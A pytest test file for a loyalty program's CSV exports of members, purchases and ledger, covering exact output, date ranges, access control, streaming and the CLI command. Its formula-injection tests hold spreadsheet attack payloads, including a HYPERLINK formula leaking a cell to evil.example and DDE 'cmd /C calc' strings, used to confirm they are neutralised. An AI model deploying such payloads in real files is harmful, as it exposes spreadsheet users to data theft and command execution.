"""Exports: a program's members, purchases and points ledger as CSV, from the manager's Export page and from
`flask --app wsgi export`.

The small fixture is made the way the app makes it (enrollment over the API and the join form, purchases and a
void at the till, a coupon), then its timestamps are pinned so the CSV can be compared byte for byte. The last
test exports 20,000 members inserted with Core and checks with tracemalloc that the export never holds them all.
"""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import os
import re
import secrets
import tempfile
import tracemalloc
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click import _termui_impl
from flask import Flask, Response, request_finished
from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import insert, select, update
from sqlalchemy.exc import OperationalError
from sqlalchemy.orm import Session

from app.domain import exports
from app.domain.coupons import create_coupon
from app.domain.errors import ValidationError
from app.domain.exports import DateRange, members_csv, parse_date_range, safe_cell
from app.domain.programs import create_staff
from app.models import Card, Customer, LedgerEntry, Purchase, utcnow
from app.views import till as till_views
from tests.conftest import ProgramKit

PASSWORD = "correct horse battery"
UTC = dt.UTC
ENROLLED = dt.datetime(2026, 3, 1, 9, 30, tzinfo=UTC)

MEMBERS_HEADER = ("serial,name,email,phone,marketing_consent,consent_recorded_at,channel,location,enrolled_at,points,"
                  "lifetime_spend,tier,purchase_count,first_purchase_at,last_purchase_at,card_status\r\n")
PURCHASES_HEADER = ("id,created_at,card_serial,location,amount,discount,amount_due,points_earned,points_redeemed,"
                    "status,voided_at,staff_email,api_key_id,coupon_codes\r\n")
LEDGER_HEADER = "id,created_at,card_serial,kind,points,purchase_id,note,staff_email,api_key_id\r\n"


# --- the fixture: a small program, made through the app --------------------------------------------------------


def _csrf(client: FlaskClient, path: str) -> str:
    page = client.get(path)
    assert page.status_code == 200, page.text
    match = re.search(r'name="csrf_token" value="([^"]+)"', page.text) or re.search(
        r'<meta name="csrf-token" content="([^"]+)">', page.text)
    assert match, f"{path} carries a CSRF token"
    return match.group(1)


def _sign_out(client: FlaskClient) -> None:
    """Forget whoever was signed in, as a fresh browser would."""
    with client.session_transaction() as session:
        session.clear()


def _sign_in(client: FlaskClient, email: str) -> None:
    _sign_out(client)
    response = client.post("/login", data={"csrf_token": _csrf(client, "/login"), "email": email,
                                           "password": PASSWORD})
    assert response.status_code == 303, response.text


@dataclass
class Shop:
    """A program set up for exporting: its kit, the members' enrollment answers, its purchases and staff."""

    kit: ProgramKit
    client: FlaskClient
    session: Session
    members: dict[str, dict[str, Any]]
    purchases: dict[str, dict[str, Any]]
    manager_email: str
    cashier_email: str

    @property
    def slug(self) -> str:
        return self.kit.program.slug

    @property
    def key_id(self) -> str:
        return self.kit.api_key.split("_")[1]

    def serial(self, name: str) -> str:
        return str(self.members[name]["serial"])

    def as_manager(self) -> FlaskClient:
        _sign_in(self.client, self.manager_email)
        return self.client


def _pin_times(session: Session, kit: ProgramKit) -> None:
    """Enrollment and consent at ENROLLED; each ledger entry at its purchase's time (its void's for a void) or at
    ENROLLED for a welcome bonus. Purchases already carry the pinned till clock."""
    customer_ids = select(Customer.id).where(Customer.program_id == kit.program.id)
    session.execute(update(Customer).where(Customer.id.in_(customer_ids))
                    .values(created_at=ENROLLED, consent_recorded_at=ENROLLED))
    entries = session.execute(
        select(LedgerEntry.id, LedgerEntry.kind, Purchase.created_at, Purchase.voided_at)
        .join(Card, Card.id == LedgerEntry.card_id).outerjoin(Purchase, Purchase.id == LedgerEntry.purchase_id)
        .where(Card.program_id == kit.program.id)).all()
    for entry in entries:
        moment = entry.voided_at if entry.kind == "void" else entry.created_at or ENROLLED
        session.execute(update(LedgerEntry).where(LedgerEntry.id == entry.id).values(created_at=moment))
    session.commit()


@pytest.fixture()
def shop(client: FlaskClient, db_session: Session, make_program: Callable[..., ProgramKit],
         enroll: Callable[..., dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> Callable[..., Shop]:
    """shop() -> a program (TEST_RULES, EUR) with three members, four purchases (one with a coupon, one rung up
    by a cashier, one voided by the cashier) and their ledger, at pinned times."""

    def make(name: str = "Corner Coffee") -> Shop:
        kit = make_program(name=name)
        program = kit.program
        manager = create_staff(db_session, program, email=f"manager-{program.slug}@example.com", role="manager",
                               password=PASSWORD)
        cashier = create_staff(db_session, program, email=f"cashier-{program.slug}@example.com", role="cashier",
                               password=PASSWORD)
        create_coupon(db_session, program, {"code": "SPRING10", "discount_type": "percent", "discount": "10"},
                      now=utcnow())
        db_session.commit()
        members = {
            "amina": enroll(kit, name="Amina Karimi", email="amina@example.com", phone="+33 6 12 34 56 78",
                            marketing_consent=True),
            "bob": enroll(kit, name="Bob Martin, Jr.", email=None, phone="+44 7700 900123"),
        }
        joined = client.post(f"/join/{program.slug}", data={
            "csrf_token": _csrf(client, f"/join/{program.slug}"), "name": 'Carla "CJ" Jones',
            "email": "carla@example.com"})
        assert joined.status_code in (302, 303), joined.text
        carla = db_session.scalar(select(Card).join(Customer).where(Customer.email == "carla@example.com",
                                                                    Customer.program_id == program.id))
        assert carla is not None
        members["carla"] = {"serial": carla.serial}

        clock = [dt.datetime(2026, 3, 2, 10, 0, tzinfo=UTC)]
        monkeypatch.setattr(till_views, "utcnow", lambda: clock[0])

        def buy(member: str, amount: str, **fields: Any) -> dict[str, Any]:
            response = client.post("/api/v1/purchases", json={"code": members[member]["code"], "amount": amount,
                                                              **fields}, headers=kit.purchase_headers())
            assert response.status_code == 201, response.json
            return response.json  # type: ignore[no-any-return]

        purchases = {"spring": buy("amina", "120.00", coupon_codes=["SPRING10"])}
        clock[0] = dt.datetime(2026, 3, 3, 23, 59, 59, tzinfo=UTC)
        purchases["small"] = buy("amina", "15.00", redeem_points=100)
        clock[0] = dt.datetime(2026, 3, 4, 8, 15, tzinfo=UTC)
        purchases["mistake"] = buy("bob", "30.00")

        _sign_in(client, cashier.email)
        csrf = _csrf(client, "/cashier")
        clock[0] = dt.datetime(2026, 3, 4, 8, 20, tzinfo=UTC)
        voided = client.post(f"/cashier/api/purchases/{purchases['mistake']['id']}/void",
                             headers={"X-CSRF-Token": csrf})
        assert voided.status_code == 200, voided.json
        clock[0] = dt.datetime(2026, 3, 5, 0, 0, tzinfo=UTC)
        rung_up = client.post("/cashier/api/purchases", json={"code": members["bob"]["code"], "amount": "3.50"},
                              headers={"X-CSRF-Token": csrf, "Idempotency-Key": str(uuid.uuid4())})
        assert rung_up.status_code == 201, rung_up.json
        purchases["coffee"] = rung_up.json
        signed_out = client.post("/logout", data={"csrf_token": csrf})
        assert signed_out.status_code == 303, signed_out.text
        _pin_times(db_session, kit)
        return Shop(kit, client, db_session, members, purchases, manager.email, cashier.email)

    return make


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _ledger_ids(session: Session, kit: ProgramKit) -> list[int]:
    return list(session.scalars(select(LedgerEntry.id).join(Card).where(Card.program_id == kit.program.id)
                                .order_by(LedgerEntry.id)))


def _download(client: FlaskClient, kind: str, **query: str) -> Any:
    response = client.get(f"/manager/export/{kind}.csv", query_string=query)
    assert response.status_code == 200, response.text
    return response


# --- exact content ---------------------------------------------------------------------------------------------


def test_the_members_export_is_every_member_as_the_app_recorded_them(shop) -> None:
    s = shop()
    response = _download(s.as_manager(), "members")
    amina, bob, carla = s.serial("amina"), s.serial("bob"), s.serial("carla")
    # Amina: 50 welcome + 108 earned - 100 redeemed + 13 earned; spent 108.00 + 13.25, so Silver (from 100.00).
    # Bob: 50 welcome + 3; his voided purchase counts for nothing. Carla joined on the web form, at no till.
    assert response.text == (
        MEMBERS_HEADER
        + f"{amina},Amina Karimi,amina@example.com,+33612345678,yes,2026-03-01T09:30:00Z,api,High Street,"
          "2026-03-01T09:30:00Z,71,121.25,Silver,2,2026-03-02T10:00:00Z,2026-03-03T23:59:59Z,active\r\n"
        + f'{bob},"Bob Martin, Jr.",,+447700900123,no,2026-03-01T09:30:00Z,api,High Street,2026-03-01T09:30:00Z,'
          "53,3.50,,1,2026-03-05T00:00:00Z,2026-03-05T00:00:00Z,active\r\n"
        + f'{carla},"Carla ""CJ"" Jones",carla@example.com,,no,2026-03-01T09:30:00Z,web,,2026-03-01T09:30:00Z,'
          "50,0.00,,0,,,active\r\n"
    )


def test_the_purchases_export_has_amounts_status_author_and_coupons(shop) -> None:
    s = shop()
    response = _download(s.as_manager(), "purchases")
    p, key = {name: purchase["id"] for name, purchase in s.purchases.items()}, s.key_id
    amina, bob = s.serial("amina"), s.serial("bob")
    assert response.text == (
        PURCHASES_HEADER
        + f"{p['spring']},2026-03-02T10:00:00Z,{amina},High Street,120.00,12.00,108.00,108,0,committed,,,{key},"
          "SPRING10\r\n"
        + f"{p['small']},2026-03-03T23:59:59Z,{amina},High Street,15.00,1.75,13.25,13,100,committed,,,{key},\r\n"
        + f"{p['mistake']},2026-03-04T08:15:00Z,{bob},High Street,30.00,0.00,30.00,30,0,voided,"
          f"2026-03-04T08:20:00Z,,{key},\r\n"
        + f"{p['coffee']},2026-03-05T00:00:00Z,{bob},,3.50,0.00,3.50,3,0,committed,,{s.cashier_email},,\r\n"
    )


def test_the_ledger_export_has_every_change_of_points_with_its_purchase_and_author(shop) -> None:
    s = shop()
    response = _download(s.as_manager(), "ledger")
    p, key = {name: purchase["id"] for name, purchase in s.purchases.items()}, s.key_id
    amina, bob, carla = s.serial("amina"), s.serial("bob"), s.serial("carla")
    ids = _ledger_ids(s.session, s.kit)
    assert len(ids) == 9
    assert response.text == LEDGER_HEADER + "".join(f"{entry_id},{row}\r\n" for entry_id, row in zip(ids, [
        f"2026-03-01T09:30:00Z,{amina},bonus,50,,Welcome bonus,,",
        f"2026-03-01T09:30:00Z,{bob},bonus,50,,Welcome bonus,,",
        f"2026-03-01T09:30:00Z,{carla},bonus,50,,Welcome bonus,,",
        f"2026-03-02T10:00:00Z,{amina},earn,108,{p['spring']},,,{key}",
        f"2026-03-03T23:59:59Z,{amina},redeem,-100,{p['small']},,,{key}",
        f"2026-03-03T23:59:59Z,{amina},earn,13,{p['small']},,,{key}",
        f"2026-03-04T08:15:00Z,{bob},earn,30,{p['mistake']},,,{key}",
        f"2026-03-04T08:20:00Z,{bob},void,-30,{p['mistake']},Void of purchase {p['mistake']},{s.cashier_email},",
        f"2026-03-05T00:00:00Z,{bob},earn,3,{p['coffee']},,{s.cashier_email},",
    ], strict=True))


def test_the_counts_for_the_progress_bar_match_the_rows(shop) -> None:
    s = shop()
    program, session = s.kit.program, s.session
    days = parse_date_range("2026-03-03", "2026-03-04")
    for kind, dates, expected in [("members", DateRange(), 3), ("purchases", DateRange(), 4),
                                  ("ledger", DateRange(), 9), ("purchases", days, 2), ("ledger", days, 4)]:
        rows = _rows("".join(exports.export_csv(session, program, kind, dates)))
        assert exports.count_rows(session, program, kind, dates) == len(rows) == expected, kind


STAMP_RULES: dict[str, Any] = {
    "welcome_bonus": 0,
    "stamps": {"stamps_needed": 3, "min_basket": 500, "reward_label": "Free coffee", "reward_value": 300},
}
CASHBACK_RULES: dict[str, Any] = {
    "welcome_bonus": 0,
    "redeem": {"point_value": 0, "max_percent": 50},
    "cashback": {"percent_bp": 500},
}


@pytest.mark.parametrize(("kind", "rules", "baskets", "columns", "values"), [
    # Four stamped purchases with three stamps to a voucher: one voucher and one stamp towards the next.
    ("stamps", STAMP_RULES, ["5.00"] * 4, ["stamps", "vouchers"], ["1", "1"]),
    # 5% back on 20.00 and 3.00, as money in the program's currency.
    ("cashback", CASHBACK_RULES, ["20.00", "3.00"], ["cashback"], ["1.15"]),
])
def test_a_stamp_or_cashback_program_adds_its_balances_as_columns(
    client: FlaskClient, db_session: Session, make_program, enroll, kind: str, rules: dict[str, Any],
    baskets: list[str], columns: list[str], values: list[str]
) -> None:
    kit = make_program()
    # As the manager's settings store them (create_program keeps only the pricing rules it knows).
    kit.program.rules = {**rules, "program_type": kind}
    kit.program.kind = kind
    db_session.commit()
    member = enroll(kit)
    for basket in baskets:
        bought = client.post("/api/v1/purchases", json={"code": member["code"], "amount": basket},
                             headers=kit.purchase_headers())
        assert bought.status_code == 201, bought.json
    text = "".join(members_csv(db_session, kit.program))
    header = text.split("\r\n")[0].split(",")
    assert header == MEMBERS_HEADER.strip().split(",") + columns
    (row,) = _rows(text)
    assert [row[column] for column in columns] == values
    assert row["serial"] == member["serial"]


# --- formula injection -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("-", "'-"),
    ("+33612345678", "+33612345678"),  # a phone number: just a number, nothing to run
    ("-100", "-100"),  # points taken
    ("-12.50", "-12.50"),
    ("Amina = Karimi", "Amina = Karimi"),  # only the first character matters
    ("", ""),
    ("'quoted", "'quoted"),
])
def test_safe_cell(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


def test_a_formula_in_a_name_is_written_as_text_and_numbers_are_left_alone(shop, enroll) -> None:
    s = shop()
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
               "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]
    serials = {enroll(s.kit, name=name)["serial"]: name for name in attacks}
    client = s.as_manager()
    members = {row["serial"]: row for row in _rows(_download(client, "members").text)}
    for serial, name in serials.items():
        assert members[serial]["name"] == "'" + name
    assert members[s.serial("amina")]["phone"] == "+33612345678"
    raw = _download(client, "members").text
    assert '"=HYPERLINK' not in raw and ",=HYPERLINK" not in raw and ",@SUM" not in raw
    ledger = _rows(_download(client, "ledger").text)
    assert "-100" in [row["points"] for row in ledger]


# --- date ranges -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("query", "purchases"), [
    # Both days included: 3 March up to 23:59:59 and 4 March; 5 March 00:00:00 is the next day.
    ({"from": "2026-03-03", "to": "2026-03-04"}, ["small", "mistake"]),
    ({"from": "2026-03-05"}, ["coffee"]),
    ({"to": "2026-03-02"}, ["spring"]),
    ({"from": "2026-03-02", "to": "2026-03-02"}, ["spring"]),
    ({"from": "2026-04-01"}, []),
    ({"from": "0001-01-01", "to": "9999-12-31"}, ["spring", "small", "mistake", "coffee"]),
    ({"from": " 2026-03-05 ", "to": ""}, ["coffee"]),
])
def test_a_date_range_limits_purchases_and_ledger_by_their_day(shop, query: dict[str, str],
                                                               purchases: list[str]) -> None:
    s = shop()
    client = s.as_manager()
    expected = [str(s.purchases[name]["id"]) for name in purchases]
    assert [row["id"] for row in _rows(_download(client, "purchases", **query).text)] == expected
    # The ledger by its own day: the welcome bonuses on 1 March, the void on its purchase's day too.
    ledger = _rows(_download(client, "ledger", **query).text)
    assert sorted({row["purchase_id"] for row in ledger if row["purchase_id"]}) == sorted(expected)
    first, last = query.get("from", "").strip() or "0001-01-01", query.get("to", "").strip() or "9999-12-31"
    assert all(first <= row["created_at"][:10] <= last for row in ledger)
    welcome = [row for row in ledger if row["note"] == "Welcome bonus"]
    assert len(welcome) == (3 if first <= "2026-03-01" <= last else 0)


@pytest.mark.parametrize(("first", "last", "errors"), [
    ("2026-02-30", "", {"from": "The first day '2026-02-30' is not a date: give one as YYYY-MM-DD, such as "
                                "2025-03-31."}),
    ("", "03/04/2026", {"to": "The last day '03/04/2026' is not a date: give one as YYYY-MM-DD, such as "
                              "2025-03-31."}),
    ("20260301", "yesterday", {"from": "The first day '20260301' is not a date: give one as YYYY-MM-DD, such as "
                                       "2025-03-31.",
                               "to": "The last day 'yesterday' is not a date: give one as YYYY-MM-DD, such as "
                                     "2025-03-31."}),
    ("2026-03-05", "2026-03-04", {"to": "The last day (2026-03-04) is before the first day (2026-03-05); swap them."}),
    ("٢٠٢٦-٠٣-٠١", "", {"from": "The first day '٢٠٢٦-٠٣-٠١' is not a date: give one as YYYY-MM-DD, such as "
                                 "2025-03-31."}),
])
def test_a_bad_date_range_is_refused_with_what_to_do(first: str, last: str, errors: dict[str, str]) -> None:
    with pytest.raises(ValidationError) as refused:
        parse_date_range(first, last)
    assert refused.value.extra["errors"] == errors
    assert refused.value.status == 422


def test_an_empty_range_is_all_time_and_the_last_possible_day_has_no_upper_bound() -> None:
    assert parse_date_range(None, "") == DateRange(None, None)
    assert parse_date_range("2026-03-01", "9999-12-31") == DateRange(dt.date(2026, 3, 1), dt.date.max)
    assert len(DateRange(dt.date(2026, 3, 1), dt.date.max).clauses(Purchase.created_at)) == 1


# --- the Export page and its downloads -------------------------------------------------------------------------


def test_the_export_page_offers_the_three_downloads_from_the_manager_tabs(shop) -> None:
    s = shop()
    page = s.as_manager().get("/manager/export")
    assert page.status_code == 200
    assert '<a href="/manager/export" aria-current="page">Export</a>' in page.text
    assert 'href="/manager/export/members.csv"' in page.text
    for kind in ("purchases", "ledger"):
        form = re.search(rf'<form method="get" action="/manager/export/{kind}.csv".*?</form>', page.text, re.S)
        assert form, f"a form for the {kind} download"
        assert f'id="{kind}-from" name="from" type="date"' in form.group(0)
        assert f'id="{kind}-to" name="to" type="date"' in form.group(0)
    assert "<script" not in page.text.split("</nav>")[1] and "style=" not in page.text
    coupons = s.client.get("/manager/coupons")
    assert '<a href="/manager/export">Export</a>' in coupons.text


def test_a_download_is_a_streamed_csv_attachment_named_by_program_kind_and_day(app: Flask, shop,
                                                                             monkeypatch) -> None:
    s = shop()
    client = s.as_manager()
    monkeypatch.setattr(exports, "PAGE_SIZE", 2)
    # The response the view handed to the server (the test client's own is a stream either way).
    sent: list[Response] = []
    for kind, rows in [("members", 3), ("purchases", 4), ("ledger", 9)]:
        with request_finished.connected_to(lambda _app, response, **_: sent.append(response), app):
            before = utcnow().date()
            response = client.get(f"/manager/export/{kind}.csv", buffered=False)
            days = {day.isoformat() for day in (before, utcnow().date())}  # the day the file is named for
        assert response.status_code == 200
        assert sent[-1].is_streamed, "the body is a generator, not a string made in memory"
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"] in {f'attachment; filename="{s.slug}-{kind}-{day}.csv"'
                                                           for day in days}
        assert response.headers["Cache-Control"] == "no-store"
        # The body comes as it is read: the header alone, then a piece per page of two rows.
        pieces = [piece.decode() for piece in response.response]
        response.close()
        assert pieces[0].count("\r\n") == 1 and pieces[0].startswith(("serial,", "id,"))
        assert [len(_rows(pieces[0] + piece)) for piece in pieces[1:]] == [2] * (rows // 2) + [1] * (rows % 2)


def test_bad_days_come_back_as_the_page_with_the_message_next_to_the_field(shop) -> None:
    s = shop()
    client = s.as_manager()
    response = client.get("/manager/export/purchases.csv", query_string={"from": "2026-02-30", "to": "2026-03-04"})
    assert response.status_code == 422
    assert response.headers["Content-Type"].startswith("text/html")
    assert ('data-error-for="purchases-from">The first day &#39;2026-02-30&#39; is not a date: give one as '
            "YYYY-MM-DD, such as 2025-03-31.<") in response.text
    assert 'id="purchases-to" name="to" type="date" value="2026-03-04"' in response.text
    assert 'data-error-for="ledger-from"' not in response.text

    response = client.get("/manager/export/ledger.csv", query_string={"from": "2026-03-05", "to": "2026-03-04"})
    assert response.status_code == 422
    assert ('data-error-for="ledger-to">The last day (2026-03-04) is before the first day (2026-03-05); swap '
            "them.<") in response.text

    response = client.get("/manager/export/members.csv", query_string={"from": "2026-03-01"})
    assert response.status_code == 422
    assert 'data-error-for="members">The members export has no date range: it lists every member.' in response.text

    assert client.get("/manager/export/cards.csv").status_code == 404
    assert client.get("/manager/export/members.json").status_code == 404


def test_only_a_manager_downloads_and_only_their_own_programs_data(shop, client: FlaskClient) -> None:
    ours, theirs = shop(), shop(name="Other Bakery")
    _sign_out(client)
    for path in ("/manager/export", "/manager/export/members.csv", "/manager/export/purchases.csv?from=2026-03-01"):
        anonymous = client.get(path)
        assert anonymous.status_code == 302, path
        assert anonymous.headers["Location"].startswith("/login?next=")

    _sign_in(client, ours.cashier_email)
    for path in ("/manager/export", "/manager/export/members.csv", "/manager/export/ledger.csv"):
        refused = client.get(path)
        assert refused.status_code == 403, path
        assert "text/csv" not in refused.headers["Content-Type"]

    for shop_, other in ((ours, theirs), (theirs, ours)):
        client = shop_.as_manager()
        members = _rows(_download(client, "members").text)
        assert {row["serial"] for row in members} == {shop_.serial(name) for name in ("amina", "bob", "carla")}
        purchases = _rows(_download(client, "purchases").text)
        assert {row["id"] for row in purchases} == {str(p["id"]) for p in shop_.purchases.values()}
        ledger = _rows(_download(client, "ledger").text)
        assert {row["card_serial"] for row in ledger} == {row["serial"] for row in members}
        everything = "".join(_download(client, kind).text for kind in ("members", "purchases", "ledger"))
        assert not any(other.serial(name) in everything for name in ("amina", "bob", "carla"))
        assert other.key_id not in everything and other.cashier_email not in everything


# --- the command line ------------------------------------------------------------------------------------------


def _export(runner: FlaskCliRunner, *args: str) -> Any:
    return runner.invoke(args=["export", *args])


def test_the_command_writes_the_same_bytes_as_the_download(shop, runner: FlaskCliRunner, tmp_path: Path) -> None:
    s = shop()
    client = s.as_manager()
    for kind, query in [("members", {}), ("purchases", {}), ("ledger", {}),
                        ("purchases", {"from": "2026-03-03", "to": "2026-03-04"}),
                        ("ledger", {"from": "2026-03-04"})]:
        downloaded = _download(client, kind, **query).data
        dates = [arg for name, value in query.items() for arg in (f"--{name}", value)]
        out = tmp_path / f"{kind}.csv"
        written = _export(runner, kind, "--program", s.slug, "--out", str(out), *dates)
        assert written.exit_code == 0, written.output
        assert out.read_bytes() == downloaded
        assert out.stat().st_mode & 0o777 == 0o600  # members' contact details: for the operator's eyes only
        assert f"to {out}." in written.stderr and written.stdout == ""
        printed = _export(runner, kind, "--program", s.slug, *dates, *(["--out", "-"] if query else []))
        assert printed.exit_code == 0, printed.output
        assert printed.stdout_bytes == downloaded
        assert printed.stderr == ""
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ledger.csv", "members.csv", "purchases.csv"]


@pytest.mark.parametrize(("kind", "summary"), [("members", "Write every member as CSV"),
                                               ("purchases", "Write the purchases as CSV"),
                                               ("ledger", "Write the points ledger as CSV")])
def test_each_command_explains_itself(runner: FlaskCliRunner, kind: str, summary: str) -> None:
    result = _export(runner, kind, "--help")
    assert result.exit_code == 0
    assert f"Usage: app export {kind} [OPTIONS]" in result.output
    assert summary in result.output
    assert "--program" in result.output and "--out" in result.output
    assert ("--from" in result.output and "--to" in result.output) is (kind != "members")


def test_the_command_shows_its_progress_on_stderr(shop, runner: FlaskCliRunner, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    s = shop()
    monkeypatch.setattr(exports, "PAGE_SIZE", 3)
    # click draws the bar itself only on a terminal (elsewhere it prints the label once): pretend stderr is one.
    monkeypatch.setattr(_termui_impl, "isatty", lambda stream: True)
    result = _export(runner, "ledger", "--program", s.slug, "--out", str(tmp_path / "ledger.csv"))
    assert result.exit_code == 0, result.output
    frames = result.stderr.split("\r")
    assert any(frame.startswith("Exporting ledger  [") and "  3/9   33%" in frame for frame in frames), frames
    assert any("  6/9   66%" in frame for frame in frames) and any("  9/9  100%" in frame for frame in frames)
    assert result.stderr.rstrip().endswith(f"Wrote 9 ledger entries of {s.slug} to {tmp_path / 'ledger.csv'}.")
    assert result.stdout == ""


def test_the_command_refuses_bad_input_with_a_clear_message(shop, runner: FlaskCliRunner, tmp_path: Path) -> None:
    s = shop()
    out = str(tmp_path / "out.csv")
    for args, message in [
        (["members", "--program", "no-such-program", "--out", out], "Error: No program 'no-such-program'."),
        (["purchases", "--program", s.slug, "--from", "2026-02-30", "--out", out],
         "Error: Nothing was exported.\n  --from: The first day '2026-02-30' is not a date: give one as "
         "YYYY-MM-DD, such as 2025-03-31."),
        (["ledger", "--program", s.slug, "--from", "2026-03-05", "--to", "2026-03-04"],
         "Error: Nothing was exported.\n  --to: The last day (2026-03-04) is before the first day (2026-03-05); "
         "swap them."),
        (["purchases", "--program", s.slug, "--out", str(tmp_path / "missing" / "out.csv")],
         f"Error: Cannot write {tmp_path / 'missing' / 'out.csv'}: No such file or directory."),
        (["members", "--program", s.slug, "--out", str(tmp_path)],
         f"Error: {tmp_path} is a folder; give a file name, such as {tmp_path / 'export.csv'}."),
    ]:
        result = _export(runner, *args)
        assert result.exit_code == 1, (args, result.output)
        assert result.stderr.strip() == message
        assert "Traceback" not in result.output and result.stdout == ""
    members = _export(runner, "members", "--program", s.slug, "--from", "2026-03-01")
    assert members.exit_code == 2 and "No such option '--from'" in members.stderr
    assert list(tmp_path.iterdir()) == []  # nothing half-written


def _database_gone(monkeypatch: pytest.MonkeyPatch) -> None:
    """The database connection drops while the second page is read."""
    def lost(*args: Any) -> dict[int, list[str]]:
        raise OperationalError("SELECT coupon_uses ...", {}, Exception("server closed the connection"))

    monkeypatch.setattr(exports, "_coupon_codes", lost)


def _disk_full(monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk fills up after the header is written."""
    make_file = tempfile.NamedTemporaryFile

    def filling(*args: Any, **kwargs: Any) -> Any:
        file = make_file(*args, **kwargs)
        write = file.write

        def write_until_full(data: bytes) -> int:
            if file.tell() > 0:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return write(data)

        file.write = write_until_full
        return file

    monkeypatch.setattr(tempfile, "NamedTemporaryFile", filling)


@pytest.mark.parametrize(("failure", "message"), [
    (_database_gone, None),  # the database's own error, with its traceback, for whoever runs the server
    (_disk_full, "Error: Cannot write {out}: No space left on device."),
])
def test_a_failed_export_leaves_the_previous_file_and_nothing_half_written(
    shop, runner: FlaskCliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    failure: Callable[[pytest.MonkeyPatch], None], message: str | None
) -> None:
    s = shop()
    out = tmp_path / "purchases.csv"
    out.write_text("yesterday's export\n")
    monkeypatch.setattr(exports, "PAGE_SIZE", 2)
    failure(monkeypatch)
    result = _export(runner, "purchases", "--program", s.slug, "--out", str(out))
    assert result.exit_code == 1
    if message is None:
        assert isinstance(result.exception, OperationalError)
    else:
        assert result.stderr.strip().endswith(message.format(out=out))
    assert out.read_text() == "yesterday's export\n"  # the last good file stays as it was
    assert [p.name for p in tmp_path.iterdir()] == ["purchases.csv"]


# --- a large program -------------------------------------------------------------------------------------------


def test_a_large_export_holds_a_page_of_rows_never_the_whole_program(make_program, db_session: Session,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    kit = make_program()
    program_id, count, page_size = kit.program.id, 20_000, exports.PAGE_SIZE
    customer_ids = db_session.scalars(insert(Customer).returning(Customer.id, sort_by_parameter_order=True), [
        {"program_id": program_id, "name": f"Member {n:05d}", "email": f"member{n}@example.com",
         "marketing_consent": n % 2 == 0, "consent_wording_version": "v1", "channel": "web",
         "consent_recorded_at": ENROLLED, "created_at": ENROLLED} for n in range(count)]).all()
    db_session.execute(insert(Card), [
        {"program_id": program_id, "customer_id": customer_id, "serial": secrets.token_hex(8).upper(),
         "page_token": secrets.token_hex(16), "points": n, "lifetime_spend": n * 100}
        for n, customer_id in enumerate(customer_ids)])
    assert exports.count_members(db_session, kit.program) == count

    def peak_while_exporting(page_size: int) -> tuple[int, int, int]:
        monkeypatch.setattr(exports, "PAGE_SIZE", page_size)
        tracemalloc.start()
        try:
            rows = size = 0
            for piece in members_csv(db_session, kit.program):
                rows, size = rows + piece.count("\r\n"), size + len(piece)
            return tracemalloc.get_traced_memory()[1], rows, size
        finally:
            tracemalloc.stop()

    # What loading every row at once takes: the same export with a single page of all 20,000.
    all_at_once, rows, size = peak_while_exporting(count + 1)
    streamed, streamed_rows, streamed_size = peak_while_exporting(page_size)
    assert rows == streamed_rows == count + 1 and streamed_size == size > 2_000_000
    # One page of 1,000 rows in memory rather than 20,000: about a tenth (measured 2-3 MB against 29 MB).
    assert streamed < all_at_once / 4, (streamed, all_at_once)
